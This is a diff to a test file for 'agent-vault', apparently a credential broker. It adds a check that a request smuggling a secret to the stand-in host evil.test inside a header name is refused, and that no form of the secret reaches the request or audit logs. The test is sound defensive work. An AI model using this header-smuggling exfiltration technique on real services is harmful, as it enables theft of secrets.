@@ -5,7 +5,8 @@
 // value as its method; the guard searched the URL, the headers and the body, not the method.
 // (2) The log: a request the guard refused for a value in its path (or method) was written to
 // requests.log and audit.log with that path, so `agent-vault log` and `audit export` showed the
-// value. Both directions must hold zero bytes of it. Broker and attacker: the unprivileged user.
+// value. Both directions must hold zero bytes of it; (3) a header named with the value was named,
+// lower-cased, in the refusal's message, which the log keeps. Broker and attacker: the unprivileged user.
 import { describe, expect, test } from "bun:test";
 import { readFileSync } from "node:fs";
 import { join } from "node:path";
@@ -64,6 +65,10 @@ describe("a refused request's line in the logs", () => {
     }
     // Refused too (the describe above): only its log line is judged here.
     await inTunnel("evil.test", B.secret, "/m2");
+    // A header named with the value: refused, and its message (which reaches the log) names no header.
+    const named = await requestInTunnel(B, "GET", "/h", { host: "evil.test", headers: [[`X-${B.secret}`, "1"]], timeoutMs: 5_000 });
+    expectRefused(named, "a header named with the value");
+    expect(named!.text.toLowerCase()).not.toContain(B.secret.toLowerCase());
     // The request log is batched, the audit within milliseconds for refusals.
     await Bun.sleep(1_500);
     const forms = [B.secret, Buffer.from(B.secret).toString("base64url"), B.secret.slice(9)];
@@ -74,7 +79,7 @@ describe("a refused request's line in the logs", () => {
     // The refusals are there, with the key named and the value withheld.
     expect(log.stdout).toContain("[withheld: carries FAKE_KEY]");
     for (const text of [B.log(), readFileSync(join(B.home.dir, "audit.log"), "utf8"), log.stdout, exported.stdout]) {
-      for (const form of forms) expect(text).not.toContain(form);
+      for (const form of forms) expect(text.toLowerCase()).not.toContain(form.toLowerCase());
     }
   }, 30_000);
 
